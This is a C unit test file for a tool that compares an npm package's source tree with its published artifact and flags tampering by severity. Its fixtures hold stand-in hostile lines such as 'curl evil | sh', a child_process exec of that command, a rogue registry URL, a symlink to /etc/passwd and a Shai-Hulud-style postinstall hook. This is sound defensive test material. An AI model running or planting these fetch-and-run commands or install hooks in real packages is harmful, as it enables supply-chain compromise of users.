#include "sg_test.h"
#include "common/alloc.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---------------------------------------------------------------- fixture */

static sg_ctx *ctx;
static sg_report *rep;
static sg_tree *src_tree, *art_tree, *root_tree, *tracked_tree;

static int setup(void **state)
{
    (void)state;
    if (sg_ctx_new(&ctx) < 0 || sg_report_new(&rep, ctx) < 0)
        return -1;
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    sg_tree_free(src_tree);
    sg_tree_free(art_tree);
    sg_tree_free(root_tree);
    sg_tree_free(tracked_tree);
    src_tree = art_tree = root_tree = tracked_tree = NULL;
    sg_report_free(rep);
    sg_ctx_free(ctx);
    rep = NULL;
    ctx = NULL;
    return 0;
}

#define PKG "{\"name\":\"p\",\"version\":\"1.0.0\",\"bin\":{\"p\":\"cli.js\"}}\n"
#define N(a) (sizeof(a) / sizeof((a)[0]))

static int run(const sgt_file *src, size_t ns, const sgt_file *art, size_t na,
               const sg_diff_opts *opts)
{
    src_tree = sgt_tree(src, ns);
    art_tree = sgt_tree(art, na);
    return sg_diff_trees(rep, ctx, src_tree, art_tree, opts);
}

static void run_ok(const sgt_file *src, size_t ns, const sgt_file *art, size_t na,
                   const sg_diff_opts *opts)
{
    int rc = run(src, ns, art, na, opts);
    if (rc != 0)
        fail_msg("sg_diff_trees failed: %d %s", rc, sg_error_message(ctx));
}

static void dump(void)
{
    size_t i, n = sg_report_finding_count(rep);
    for (i = 0; i < n; i++) {
        const sg_finding *f = sg_report_finding(rep, i);
        print_message("  finding %s %s path=%s field=%s name=%s (%s)\n", f->kind,
                      sg_severity_name(f->severity), f->path ? f->path : "-",
                      f->field ? f->field : "-", f->name ? f->name : "-",
                      f->detail ? f->detail : "");
    }
    n = sg_report_normalization_count(rep);
    for (i = 0; i < n; i++)
        print_message("  normalization %s\n", sg_report_normalization(rep, i));
}

static const sg_finding *find(const char *kind, const char *path)
{
    size_t i, n = sg_report_finding_count(rep);
    for (i = 0; i < n; i++) {
        const sg_finding *f = sg_report_finding(rep, i);
        if (strcmp(f->kind, kind) == 0 && f->path && strcmp(f->path, path) == 0)
            return f;
    }
    return NULL;
}

static const sg_finding *expect(const char *kind, sg_severity sev, const char *path)
{
    const sg_finding *f = find(kind, path);
    if (!f) {
        dump();
        fail_msg("no %s finding for '%s'", kind, path);
    }
    if (f->severity != sev) {
        dump();
        fail_msg("%s '%s' has severity %s, expected %s", kind, path, sg_severity_name(f->severity),
                 sg_severity_name(sev));
    }
    return f;
}

/* The high entry-changed finding whose detail holds `text`. */
static const sg_finding *find_high_entry(const char *text)
{
    size_t i, n = sg_report_finding_count(rep);
    for (i = 0; i < n; i++) {
        const sg_finding *f = sg_report_finding(rep, i);
        if (strcmp(f->kind, "entry-changed") == 0 && f->severity == SG_SEV_HIGH && f->detail &&
            strstr(f->detail, text))
            return f;
    }
    dump();
    return NULL;
}

static void expect_count(size_t n)
{
    if (sg_report_finding_count(rep) != n) {
        dump();
        fail_msg("expected %zu findings, got %zu", n, sg_report_finding_count(rep));
    }
}

static int has_norm(const char *name)
{
    size_t i, n = sg_report_normalization_count(rep);
    for (i = 0; i < n; i++)
        if (strcmp(sg_report_normalization(rep, i), name) == 0)
            return 1;
    return 0;
}

/* ---------------------------------------------------------------- same trees */

static void test_tree_diff__identical_trees_pass_with_counts(void **state)
{
    const sgt_file files[] = {
        {"package.json", PKG, 0, 0},
        {"cli.js", "#!/usr/bin/env node\nrequire('./index')\n", 0, 0755},
        {"index.js", "module.exports = 1\n", 0, 0},
        {"README.md", "# p\n", 0, 0},
    };
    (void)state;
    run_ok(files, N(files), files, N(files), NULL);
    expect_count(0);
    assert_int_equal(sg_report_count(rep, SG_COUNT_ARTIFACT_FILES), 4);
    assert_int_equal(sg_report_count(rep, SG_COUNT_FILES_SAME), 4);
    assert_int_equal(sg_report_count(rep, SG_COUNT_FILES_EXPLAINED), 0);
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_PASS);
}

/* ---------------------------------------------------------------- attack class 4: new files */

static void test_tree_diff__new_code_files_are_high(void **state)
{
    static const char elf[] = "\x7f"
                              "ELF\x02\x01\x01\x00payload";
    const sgt_file src[] = {
        {"package.json", PKG, 0, 0},
        {"index.js", "module.exports = 1\n", 0, 0},
    };
    const sgt_file art[] = {
        {"package.json", PKG, 0, 0},
        {"index.js", "module.exports = 1\n", 0, 0},
        {"bundle.js", "steal()", 0, 0},
        {"lib/x.cjs", "steal()", 0, 0},
        {"lib/x.mjs", "steal()", 0, 0},
        {"build/Release/x.node",
         "\x7f"
         "ELF",
         4, 0},
        {"lib/data.json", "{}", 0, 0},
        {"binding.gyp", "{'targets':[]}", 0, 0},
        {".npmrc", "registry=https://evil/\n", 0, 0},
        {"scripts/setup.sh", "curl evil | sh\n", 0, 0},
        {"prebuilt/helper", elf, sizeof(elf) - 1, 0},
        {"lib/payload.dll", "MZ\x90", 3, 0},
        {"tools/run", "#!/bin/sh\necho\n", 0, 0},
    };
    size_t i;
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    for (i = 2; i < N(art); i++)
        expect("file-added", SG_SEV_HIGH, art[i].path);
    expect_count(N(art) - 2);
    assert_non_null(strstr(find("file-added", "bundle.js")->detail, "not in the source"));
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_FAIL);
}

static void test_tree_diff__new_files_by_class_severity(void **state)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}};
    const sgt_file art[] = {
        {"package.json", PKG, 0, 0},
        {"CHANGELOG.md", "# changes\n", 0, 0},
        {"index.d.ts", "export {}\n", 0, 0},
        {"dist/style.css", "a{}\n", 0, 0},
    };
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    expect("file-added", SG_SEV_LOW, "CHANGELOG.md");
    expect("file-added", SG_SEV_MEDIUM, "index.d.ts");
    expect("file-added", SG_SEV_MEDIUM, "dist/style.css");
    expect_count(3);
}

/* require('./lib/util') loads an added extension-less lib/util before lib/util.js; and a file
 * beside a code file with its name minus the extension is found first too (issue 12). */
static void test_tree_diff__extensionless_and_shadowing_files_are_code(void **state)
{
    const sgt_file src[] = {
        {"package.json", PKG, 0, 0},
        {"lib/util.js", "module.exports = 1\n", 0, 0},
        {"lib/util.min.js", "module.exports = 1\n", 0, 0},
    };
    const sgt_file art[] = {
        {"package.json", PKG, 0, 0},
        {"lib/util.js", "module.exports = 1\n", 0, 0},
        {"lib/util.min.js", "module.exports = 1\n", 0, 0},
        {"lib/util", "steal()\n", 0, 0},
        {"lib/util.min", "steal()\n", 0, 0},
    };
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    expect("file-added", SG_SEV_HIGH, "lib/util");
    expect("file-added", SG_SEV_HIGH, "lib/util.min");
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_FAIL);
}

/* main pointed at an added NOTES.md holding JavaScript: Node runs files with unknown
 * extensions as CommonJS. The file is code because main names it, and the retargeted entry
 * point is high (issue 12). */
static void test_tree_diff__entry_point_retargeted_to_an_added_file_is_high(void **state)
{
    const sgt_file src[] = {
        {"package.json", "{\"name\":\"p\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n", 0, 0},
        {"index.js", "module.exports = 1\n", 0, 0},
    };
    const sgt_file art[] = {
        {"package.json", "{\"name\":\"p\",\"version\":\"1.0.0\",\"main\":\"NOTES.md\"}\n", 0, 0},
        {"index.js", "module.exports = 1\n", 0, 0},
        {"NOTES.md", "require('child_process').exec('curl evil|sh')\n", 0, 0},
    };
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    expect("file-added", SG_SEV_HIGH, "NOTES.md");
    assert_non_null(find_high_entry("main now points at 'NOTES.md', a file the source does not "
                                    "have"));
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_FAIL);
}

/* Retargeted to a file the source has, but whose name is not code; and retargeted through
 * exports to a source .js file, which stays the medium entry-changed it was. */
static void test_tree_diff__entry_point_retargets_by_name_and_source(void **state)
{
    const sgt_file src[] = {
        {"package.json",
         "{\"name\":\"p\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"exports\":{\".\":"
         "\"./index.js\"}}\n",
         0, 0},
        {"index.js", "module.exports = 1\n", 0, 0},
        {"lib/other.js", "module.exports = 2\n", 0, 0},
        {"docs/x.txt", "text\n", 0, 0},
    };
    const sgt_file art[] = {
        {"package.json",
         "{\"name\":\"p\",\"version\":\"1.0.0\",\"main\":\"docs/x.txt\",\"exports\":{\".\":"
         "{\"require\":\"./lib/other\"}}}\n",
         0, 0},
        {"index.js", "module.exports = 1\n", 0, 0},
        {"lib/other.js", "module.exports = 2\n", 0, 0},
        {"docs/x.txt", "text\n", 0, 0},
    };
    size_t i, high = 0;
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    for (i = 0; i < sg_report_finding_count(rep); i++) {
        const sg_finding *f = sg_report_finding(rep, i);
        high += strcmp(f->kind, "entry-changed") == 0 && f->severity == SG_SEV_HIGH;
    }
    assert_int_equal(high, 1);
    assert_non_null(find_high_entry("main now points at 'docs/x.txt', a file Node runs as code"));
}

/* ---------------------------------------------------------------- attack class 5: modified */

static void test_tree_diff__modified_code_is_high(void **state)
{
    const sgt_file src[] = {
        {"package.json", PKG, 0, 0},
        {"a.js", "module.exports = 1\n", 0, 0},
        {"b.js", "module.exports = 2\n", 0, 0},
        {"c.js", "module.exports = 3\n", 0, 0},
    };
    const sgt_file art[] = {
        {"package.json", PKG, 0, 0},
        {"a.js", "module.exports = 1\n;require('child_process').exec('x')\n", 0, 0}, /* appended */
        {"b.js", "steal();module.exports = 2\n", 0, 0},                              /* prepended */
        {"c.js", "module.exports = 4\n", 0, 0},                                      /* one byte */
    };
    const sg_finding *f;
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    f = expect("file-modified", SG_SEV_HIGH, "a.js");
    assert_string_equal(f->detail, "bytes differ from the source (code)");
    expect("file-modified", SG_SEV_HIGH, "b.js");
    expect("file-modified", SG_SEV_HIGH, "c.js");
    expect_count(3);
    assert_int_equal(sg_report_count(rep, SG_COUNT_FILES_SAME), 1);
}

static void test_tree_diff__readme_badge_rewrite_is_low_only(void **state)
{
    const sgt_file src[] = {
        {"package.json", PKG, 0, 0},
        {"README.md", "# p\n![ci](https://github.com/x/p/actions/badge.svg?branch=main)\n", 0, 0},
    };
    const sgt_file art[] = {
        {"package.json", PKG, 0, 0},
        {"README.md", "# p\n![ci](https://img.shields.io/npm/v/p.svg)\n", 0, 0},
    };
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    expect("file-modified", SG_SEV_LOW, "README.md");
    expect_count(1);
    assert_int_equal(sg_report_max_severity(rep), SG_SEV_LOW);
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_PASS);
}

static void test_tree_diff__modified_takes_the_riskier_class(void **state)
{
    const sgt_file src[] = {
        {"package.json", PKG, 0, 0},
        {"notes.txt", "hello\n", 0, 0},
    };
    const sgt_file art[] = {
        {"package.json", PKG, 0, 0},
        {"notes.txt", "#!/bin/sh\ncurl evil | sh\n", 0, 0},
    };
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    expect("file-modified", SG_SEV_HIGH, "notes.txt");
}

/* ---------------------------------------------------------------- attack class 8: exec bit */

static void test_tree_diff__exec_bit_added_is_medium(void **state)
{
    const sgt_file src[] = {
        {"package.json", PKG, 0, 0},
        {"lib/run.js", "x()\n", 0, 0},
    };
    const sgt_file art[] = {
        {"package.json", PKG, 0, 0},
        {"lib/run.js", "x()\n", 0, 0755},
    };
    const sg_finding *f;
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    f = expect("mode-changed", SG_SEV_MEDIUM, "lib/run.js");
    assert_string_equal(f->before, "644");
    assert_string_equal(f->after, "755");
    expect_count(1);
}

static void test_tree_diff__exec_bit_removed_is_low(void **state)
{
    const sgt_file src[] = {
        {"package.json", PKG, 0, 0},
        {"scripts/run.sh", "echo\n", 0, 0755},
    };
    const sgt_file art[] = {
        {"package.json", PKG, 0, 0},
        {"scripts/run.sh", "echo\n", 0, 0},
    };
    const sg_finding *f;
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    f = expect("mode-changed", SG_SEV_LOW, "scripts/run.sh");
    assert_string_equal(f->before, "755");
    assert_string_equal(f->after, "644");
}

static void test_tree_diff__exec_bit_on_bin_target_is_a_normalization(void **state)
{
    const sgt_file src[] = {
        {"package.json", PKG, 0, 0},
        {"cli.js", "main()\n", 0, 0},
        {"x/cli.js", "other()\n", 0, 0},
    };
    const sgt_file art[] = {
        {"package.json", PKG, 0, 0},
        {"cli.js", "main()\n", 0, 0755},
        {"x/cli.js", "other()\n", 0, 0755}, /* pacote's isPackageBin quirk */
    };
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    expect_count(0);
    assert_true(has_norm("bin-executable"));
    assert_int_equal(sg_report_count(rep, SG_COUNT_FILES_SAME), 3);
}

/* ---------------------------------------------------------------- package.json */

static void test_tree_diff__package_json_goes_through_the_manifest_diff(void **state)
{
    const sgt_file src[] = {
        {"package.json", "{\"name\":\"p\",\"version\":\"1.0.0\"}", 0, 0},
        {"index.js", "x\n", 0, 0},
    };
    const sgt_file art[] = {
        {"package.json",
         "{\"name\":\"p\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node bundle.js\"}}",
         0, 0},
        {"index.js", "x\n", 0, 0},
        {"bundle.js", "steal()\n", 0, 0},
    };
    const sg_finding *f;
    (void)state;
    /* Shai-Hulud: a new bundle.js and a postinstall that runs it */
    run_ok(src, N(src), art, N(art), NULL);
    f = expect("script-added", SG_SEV_CRITICAL, "package.json");
    assert_string_equal(f->name, "postinstall");
    expect("file-added", SG_SEV_HIGH, "bundle.js");
    assert_null(find("file-modified", "package.json"));
    expect_count(2);
    assert_int_equal(sg_report_count(rep, SG_COUNT_FILES_SAME), 1);
    assert_int_equal(sg_report_count(rep, SG_COUNT_FILES_EXPLAINED), 0);
}

static void test_tree_diff__reformatted_package_json_counts_as_explained(void **state)
{
    const sgt_file src[] = {{"package.json", "{\n  \"name\": \"p\"\n}\n", 0, 0}};
    const sgt_file art[] = {{"package.json", "{\"name\":\"p\"}", 0, 0}};
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    expect_count(0);
    assert_true(has_norm("package.json-format"));
    assert_int_equal(sg_report_count(rep, SG_COUNT_FILES_SAME), 0);
    assert_int_equal(sg_report_count(rep, SG_COUNT_FILES_EXPLAINED), 1);
}

static void test_tree_diff__artifact_without_package_json_is_einvalid(void **state)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}};
    const sgt_file art[] = {{"index.js", "x", 0, 0}};
    (void)state;
    assert_int_equal(run(src, N(src), art, N(art), NULL), SG_EINVALID);
    assert_string_equal(sg_error_message(ctx), "the artifact has no package.json");
}

static void test_tree_diff__bad_artifact_package_json_is_einvalid(void **state)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}};
    const sgt_file art[] = {{"package.json", "{\"name\":", 0, 0}};
    (void)state;
    assert_int_equal(run(src, N(src), art, N(art), NULL), SG_EINVALID);
    assert_non_null(
        strstr(sg_error_message(ctx), "package.json in the artifact is not valid JSON"));
}

/* ---------------------------------------------------------------- absent from the source */

static int built(void *payload, const char *path, const char **why)
{
    (void)payload;
    if (strncmp(path, "dist/", 5) == 0) {
        *why = "git-ignored output of the build (dist/)";
        return 1;
    }
    return 0;
}

static void test_tree_diff__possibly_built_file_is_unverified(void **state)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}, {"src/a.ts", "x", 0, 0}};
    const sgt_file art[] = {
        {"package.json", PKG, 0, 0},
        {"dist/a.js", "x", 0, 0},
        {"payload.js", "steal()", 0, 0},
    };
    sg_diff_opts o = SG_DIFF_OPTS_INIT;
    const sg_finding *f;
    (void)state;
    o.possibly_built = built;
    run_ok(src, N(src), art, N(art), &o);
    f = expect("file-unverified", SG_SEV_MEDIUM, "dist/a.js");
    assert_string_equal(f->detail, "git-ignored output of the build (dist/)");
    expect("file-added", SG_SEV_HIGH, "payload.js");
    expect("file-missing", SG_SEV_INFO, "src/a.ts");
    expect_count(3);
}

static void test_tree_diff__unverified_only_is_inconclusive(void **state)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}};
    const sgt_file art[] = {{"package.json", PKG, 0, 0}, {"dist/a.js", "x", 0, 0}};
    sg_diff_opts o = SG_DIFF_OPTS_INIT;
    (void)state;
    o.possibly_built = built;
    run_ok(src, N(src), art, N(art), &o);
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_INCONCLUSIVE);
}

static void test_tree_diff__case_rename_with_same_bytes_is_explained(void **state)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}, {"Readme.md", "# p\n", 0, 0}};
    const sgt_file art[] = {{"package.json", PKG, 0, 0}, {"README.md", "# p\n", 0, 0}};
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    expect_count(0);
    assert_true(has_norm("case-rename"));
    assert_int_equal(sg_report_count(rep, SG_COUNT_FILES_EXPLAINED), 1);
    assert_int_equal(sg_report_count(rep, SG_COUNT_FILES_SAME), 1);
}

static void test_tree_diff__case_rename_with_other_bytes_is_added(void **state)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}, {"lib/Index.js", "a()\n", 0, 0}};
    const sgt_file art[] = {{"package.json", PKG, 0, 0}, {"lib/index.js", "b()\n", 0, 0}};
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    expect("file-added", SG_SEV_HIGH, "lib/index.js");
    expect("file-missing", SG_SEV_INFO, "lib/Index.js");
    assert_false(has_norm("case-rename"));
}

static void test_tree_diff__workspace_root_license_copy_is_explained(void **state)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}};
    const sgt_file art[] = {{"package.json", PKG, 0, 0}, {"LICENSE", "MIT License\n", 0, 0}};
    const sgt_file root[] = {{"LICENSE", "MIT License\n", 0, 0}, {"package.json", "{}", 0, 0}};
    sg_diff_opts o = SG_DIFF_OPTS_INIT;
    (void)state;
    root_tree = sgt_tree(root, N(root));
    o.root_files = root_tree;
    run_ok(src, N(src), art, N(art), &o);
    expect_count(0);
    assert_true(has_norm("workspace-root-license"));
    assert_int_equal(sg_report_count(rep, SG_COUNT_FILES_EXPLAINED), 1);
}

static void test_tree_diff__root_license_with_other_bytes_is_low(void **state)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}};
    const sgt_file art[] = {{"package.json", PKG, 0, 0}, {"LICENSE", "Evil License\n", 0, 0}};
    const sgt_file root[] = {{"LICENSE", "MIT License\n", 0, 0}};
    sg_diff_opts o = SG_DIFF_OPTS_INIT;
    (void)state;
    root_tree = sgt_tree(root, N(root));
    o.root_files = root_tree;
    run_ok(src, N(src), art, N(art), &o);
    expect("file-added", SG_SEV_LOW, "LICENSE");
    assert_false(has_norm("workspace-root-license"));
}

static void test_tree_diff__root_license_is_not_used_below_the_root(void **state)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}};
    const sgt_file art[] = {{"package.json", PKG, 0, 0}, {"lib/LICENSE", "MIT License\n", 0, 0}};
    const sgt_file root[] = {{"LICENSE", "MIT License\n", 0, 0}};
    sg_diff_opts o = SG_DIFF_OPTS_INIT;
    (void)state;
    root_tree = sgt_tree(root, N(root));
    o.root_files = root_tree;
    run_ok(src, N(src), art, N(art), &o);
    expect("file-added", SG_SEV_LOW, "lib/LICENSE");
}

/* ---------------------------------------------------------------- ignored but tracked */

/* qs@6.14.0: dist/qs.js is committed and .gitignore has dist/ followed by a star, so the packing
 * rules leave it out; the artifact ships it with the committed bytes. */
static void test_tree_diff__ignored_but_tracked_with_same_bytes_is_explained(void **state)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}, {"lib/a.js", "a()\n", 0, 0}};
    const sgt_file art[] = {
        {"package.json", PKG, 0, 0},
        {"lib/a.js", "a()\n", 0, 0},
        {"dist/x.js", "x()\n", 0, 0},
    };
    const sgt_file tracked[] = {{"dist/x.js", "x()\n", 0, 0}};
    sg_diff_opts o = SG_DIFF_OPTS_INIT;
    (void)state;
    tracked_tree = sgt_tree(tracked, N(tracked));
    o.possibly_built = built;
    o.tracked = tracked_tree;
    run_ok(src, N(src), art, N(art), &o);
    expect_count(0);
    assert_true(has_norm("ignored-but-tracked"));
    assert_int_equal(sg_report_count(rep, SG_COUNT_FILES_SAME), 2);
    assert_int_equal(sg_report_count(rep, SG_COUNT_FILES_EXPLAINED), 1);
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_PASS);
}

static void test_tree_diff__ignored_but_tracked_with_other_bytes_is_modified(void **state)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}};
    const sgt_file art[] = {
        {"package.json", PKG, 0, 0},
        {"dist/x.js", "x();steal()\n", 0, 0},
        {"dist/notes.md", "# changed\n", 0, 0},
    };
    const sgt_file tracked[] = {{"dist/x.js", "x()\n", 0, 0}, {"dist/notes.md", "# n\n", 0, 0}};
    sg_diff_opts o = SG_DIFF_OPTS_INIT;
    const sg_finding *f;
    (void)state;
    tracked_tree = sgt_tree(tracked, N(tracked));
    o.possibly_built = built; /* never "possibly built" when git holds other bytes */
    o.tracked = tracked_tree;
    run_ok(src, N(src), art, N(art), &o);
    f = expect("file-modified", SG_SEV_HIGH, "dist/x.js");
    assert_non_null(strstr(f->detail, "committed at this path"));
    expect("file-modified", SG_SEV_LOW, "dist/notes.md");
    expect_count(2);
    assert_false(has_norm("ignored-but-tracked"));
    assert_int_equal(sg_report_count(rep, SG_COUNT_FILES_EXPLAINED), 0);
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_FAIL);
}

static void test_tree_diff__ignored_but_tracked_symlink_for_a_file_is_modified(void **state)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}};
    const sgt_file art[] = {{"package.json", PKG, 0, 0}, {"dist/x.js", "x()\n", 0, 0120000}};
    const sgt_file tracked[] = {{"dist/x.js", "x()\n", 0, 0}};
    sg_diff_opts o = SG_DIFF_OPTS_INIT;
    (void)state;
    tracked_tree = sgt_tree(tracked, N(tracked));
    o.tracked = tracked_tree;
    run_ok(src, N(src), art, N(art), &o);
    expect("file-modified", SG_SEV_HIGH, "dist/x.js");
    assert_false(has_norm("ignored-but-tracked"));
}

/* ---------------------------------------------------------------- missing, links */

static void test_tree_diff__missing_file_is_info(void **state)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}, {"test/a.test.js", "t()", 0, 0}};
    const sgt_file art[] = {{"package.json", PKG, 0, 0}};
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    expect("file-missing", SG_SEV_INFO, "test/a.test.js");
    expect_count(1);
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_PASS);
}

static void test_tree_diff__symlink_in_place_of_a_file_is_modified(void **state)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}, {"index.js", "x()", 0, 0}};
    const sgt_file art[] = {{"package.json", PKG, 0, 0}, {"index.js", "/etc/passwd", 0, 0120000}};
    (void)state;
    run_ok(src, N(src), art, N(art), NULL);
    expect("file-modified", SG_SEV_HIGH, "index.js");
}

static void test_tree_diff__allocation_failures_are_errors_not_crashes(void **state)
{
    const sgt_file src[] = {
        {"package.json", PKG, 0, 0},
        {"Readme.md", "# p\n", 0, 0},
        {"a.js", "a()", 0, 0},
        {"gone.js", "g()", 0, 0},
    };
    const sgt_file art[] = {
        {"package.json", "{\"name\":\"p\",\"version\":\"1.0.0\",\"bin\":\"cli.js\"}", 0, 0},
        {"README.md", "# p\n", 0, 0},
        {"a.js", "b()", 0, 0},
        {"cli.js", "c()", 0, 0755},
        {"LICENSE", "MIT\n", 0, 0},
        {"dist/x.js", "x()", 0, 0},
        {"dist/y.js", "y()", 0, 0},
    };
    const sgt_file root[] = {{"LICENSE", "MIT\n", 0, 0}};
    const sgt_file tracked[] = {{"dist/x.js", "x()", 0, 0}, {"dist/y.js", "z()", 0, 0}};
    sg_diff_opts o = SG_DIFF_OPTS_INIT;
    long n;
    int rc = -1;
    (void)state;
    src_tree = sgt_tree(src, N(src));
    art_tree = sgt_tree(art, N(art));
    root_tree = sgt_tree(root, N(root));
    tracked_tree = sgt_tree(tracked, N(tracked));
    o.root_files = root_tree;
    o.tracked = tracked_tree;
    for (n = 0; n < 5000; n++) {
        sg_report_free(rep);
        assert_int_equal(sg_report_new(&rep, ctx), 0);
        sg_error_clear(ctx);
        sg_alloc__fail_after(n);
        rc = sg_diff_trees(rep, ctx, src_tree, art_tree, &o);
        sg_alloc__fail_after(-1);
        if (rc == 0)
            break;
        if (rc != SG_ENOMEM && rc != SG_EINVALID)
            fail_msg("allocation failure %ld gave %d (%s)", n, rc, sg_error_message(ctx));
        if (sg_error_message(ctx)[0] == '\0')
            fail_msg("allocation failure %ld gave %d with no message", n, rc);
    }
    assert_int_equal(rc, 0);
    expect("file-modified", SG_SEV_HIGH, "a.js");
    expect("file-added", SG_SEV_HIGH, "cli.js");
    expect("file-missing", SG_SEV_INFO, "gone.js");
    assert_true(has_norm("case-rename"));
    assert_true(has_norm("workspace-root-license"));
    assert_true(has_norm("ignored-but-tracked"));
    expect("file-modified", SG_SEV_HIGH, "dist/y.js");
}

#define T(name) cmocka_unit_test_setup_teardown(name, setup, teardown)

int main(void)
{
    const struct CMUnitTest tests[] = {
        T(test_tree_diff__identical_trees_pass_with_counts),
        T(test_tree_diff__new_code_files_are_high),
        T(test_tree_diff__new_files_by_class_severity),
        T(test_tree_diff__extensionless_and_shadowing_files_are_code),
        T(test_tree_diff__entry_point_retargeted_to_an_added_file_is_high),
        T(test_tree_diff__entry_point_retargets_by_name_and_source),
        T(test_tree_diff__modified_code_is_high),
        T(test_tree_diff__readme_badge_rewrite_is_low_only),
        T(test_tree_diff__modified_takes_the_riskier_class),
        T(test_tree_diff__exec_bit_added_is_medium),
        T(test_tree_diff__exec_bit_removed_is_low),
        T(test_tree_diff__exec_bit_on_bin_target_is_a_normalization),
        T(test_tree_diff__package_json_goes_through_the_manifest_diff),
        T(test_tree_diff__reformatted_package_json_counts_as_explained),
        T(test_tree_diff__artifact_without_package_json_is_einvalid),
        T(test_tree_diff__bad_artifact_package_json_is_einvalid),
        T(test_tree_diff__possibly_built_file_is_unverified),
        T(test_tree_diff__unverified_only_is_inconclusive),
        T(test_tree_diff__case_rename_with_same_bytes_is_explained),
        T(test_tree_diff__case_rename_with_other_bytes_is_added),
        T(test_tree_diff__workspace_root_license_copy_is_explained),
        T(test_tree_diff__root_license_with_other_bytes_is_low),
        T(test_tree_diff__root_license_is_not_used_below_the_root),
        T(test_tree_diff__missing_file_is_info),
        T(test_tree_diff__symlink_in_place_of_a_file_is_modified),
        T(test_tree_diff__ignored_but_tracked_with_same_bytes_is_explained),
        T(test_tree_diff__ignored_but_tracked_with_other_bytes_is_modified),
        T(test_tree_diff__ignored_but_tracked_symlink_for_a_file_is_modified),
        T(test_tree_diff__allocation_failures_are_errors_not_crashes),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
